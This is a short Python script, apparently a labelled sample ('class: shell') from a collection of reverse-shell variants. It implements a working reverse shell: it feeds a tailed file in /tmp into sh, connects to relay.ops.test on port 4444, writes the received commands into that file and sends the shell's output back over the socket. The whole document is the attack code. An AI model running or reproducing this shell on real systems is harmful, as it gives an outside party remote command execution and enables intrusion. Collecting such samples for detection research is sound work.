# class: shell; possible: low medium; style: through a file that a shell follows
import os
import socket
import subprocess
import time

path = "/tmp/notes.txt"
open(path, "w").close()
sh = subprocess.Popen("tail -f -s 0.2 /tmp/notes.txt | sh > /tmp/out.txt 2>&1", shell=True, start_new_session=True)
s = socket.create_connection(("relay.ops.test", 4444))
s.settimeout(1)
sent, end = 0, time.time() + 25
while time.time() < end:
    try:
        data = s.recv(1024)
        if not data:
            break
        with open(path, "ab") as fh:
            fh.write(data)
    except TimeoutError:
        pass
    with open("/tmp/out.txt", "rb") as fh:
        fh.seek(sent)
        new = fh.read()
    if new:
        s.sendall(new)
        sent += len(new)
os.killpg(sh.pid, 15)
